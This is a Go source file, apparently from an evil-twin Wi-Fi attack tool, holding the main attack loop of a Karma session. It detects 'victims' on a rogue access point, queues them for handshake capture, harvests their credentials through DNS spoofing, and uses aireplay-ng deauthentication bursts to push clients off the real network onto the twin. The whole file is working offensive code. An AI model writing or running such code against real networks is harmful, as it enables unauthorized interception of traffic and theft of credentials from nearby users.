package main

import (
	"context"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
	"time"

	"twincast/libs"
	"twincast/libs/iface"
	"twincast/libs/proc"
)

var macRe = regexp.MustCompile(`([0-9A-Fa-f]{2}[:]){5}[0-9A-Fa-f]{2}`)

// parseStationDump pulls client MACs from `iw dev X station dump`
func parseStationDump(output string) []string {
	var macs []string
	for _, line := range strings.Split(output, "\n") {
		if !strings.HasPrefix(strings.TrimSpace(line), "Station") {
			continue
		}
		if match := macRe.FindString(line); match != "" {
			macs = append(macs, strings.ToUpper(match))
		}
	}
	return macs
}

// parseLeases pulls client MACs from a dnsmasq lease file
func parseLeases(text string) []string {
	var macs []string
	for _, line := range strings.Split(text, "\n") {
		parts := strings.Fields(line)
		if len(parts) < 2 {
			continue
		}
		if libs.IsValidMAC(parts[1]) {
			macs = append(macs, strings.ToUpper(parts[1]))
		}
	}
	return macs
}

// parseArp pulls client MACs from `arp -a`, rogue subnet only
func parseArp(output string, subnet string) []string {
	var macs []string
	for _, line := range strings.Split(output, "\n") {
		if !strings.Contains(line, subnet) {
			continue
		}
		if match := macRe.FindString(line); match != "" {
			macs = append(macs, strings.ToUpper(match))
		}
	}
	return macs
}

// detectConnections unions the three victim signals
func (s *karmaSession) detectConnections() []string {
	var apIface string = iface.CleanName(s.rogueIface)
	var union map[string]struct{} = make(map[string]struct{})
	if out, err := libs.Rtexec(exec.Command("bash", "-c", "iw dev "+apIface+" station dump")); !err {
		for _, mac := range parseStationDump(out) {
			union[mac] = struct{}{}
		}
	}
	if s.conf.DNSSpoofing && s.rogueCtl != nil && s.rogueCtl.LeaseFile != "" {
		if text, err := readFile(s.rogueCtl.LeaseFile); err == nil {
			for _, mac := range parseLeases(text) {
				union[mac] = struct{}{}
			}
		}
	}
	var subnet string = s.conf.GatewayIP[:strings.LastIndex(s.conf.GatewayIP, ".")+1]
	if out, err := libs.Rtexec(exec.Command("bash", "-c", "arp -a")); !err {
		for _, mac := range parseArp(out, subnet) {
			union[mac] = struct{}{}
		}
	}
	var macs []string
	for mac := range union {
		macs = append(macs, mac)
	}
	return macs
}

// monitorConnections is the main attack loop: poll the victim signals,
// admit new clients to the capture pipeline and the harvester, kick
// stragglers off the real AP. Poll cadence follows connection state.
func (s *karmaSession) monitorConnections(ctx context.Context) {
	for s.isRunning() {
		select {
		case <-ctx.Done():
			return
		default:
		}
		for _, mac := range s.detectConnections() {
			s.onClientConnected(ctx, mac)
		}
		s.offerCaptures()
		s.kickRealAPClients(ctx)
		var interval time.Duration = 8 * time.Second
		if s.connectedCount() > 0 {
			interval = 3 * time.Second
		}
		select {
		case <-ctx.Done():
			return
		case <-time.After(interval):
		}
	}
}

// offerCaptures re-queues every connected client still eligible for a
// handshake attempt. Offer dedupes in-flight and exhausted clients, so
// repeating it every cycle is what drives the per-client attempt cap.
func (s *karmaSession) offerCaptures() {
	if s.pipeline == nil {
		return
	}
	s.clientMu.Lock()
	var clients []string
	for mac := range s.connectedClients {
		clients = append(clients, mac)
	}
	s.clientMu.Unlock()
	for _, mac := range clients {
		s.pipeline.Offer(mac)
	}
}

func (s *karmaSession) onClientConnected(ctx context.Context, mac string) {
	s.clientMu.Lock()
	if s.connectedClients[mac] {
		s.clientMu.Unlock()
		return
	}
	s.connectedClients[mac] = true
	s.clientMu.Unlock()
	libs.Success(s.color, "Victim connected: "+s.color.Green+mac+s.color.White)
	if s.pipeline != nil {
		s.pipeline.Offer(mac)
	}
	if s.conf.DNSSpoofing && s.harvester != nil {
		s.wg.Add(1)
		go func() {
			defer s.wg.Done()
			credentials := s.harvester.Collect(ctx, mac)
			if len(credentials) == 0 {
				return
			}
			s.mu.Lock()
			s.harvested[mac] = append(s.harvested[mac], credentials...)
			s.mu.Unlock()
			libs.Success(s.color, strconv.Itoa(len(credentials))+" credentials harvested from "+mac)
		}()
	}
}

// kickRealAPClients shoves the primary network's clients toward the
// twin with a short burst when they are not connected to us yet.
func (s *karmaSession) kickRealAPClients(ctx context.Context) {
	if s.primary.Bssid == "" {
		return
	}
	for _, client := range s.primary.Clients {
		if s.isConnected(client) {
			continue
		}
		proc.Run(ctx, 10*time.Second, "aireplay-ng",
			"-0", "2",
			"-a", s.primary.Bssid,
			"-c", client,
			s.resolvedProbe)
	}
}
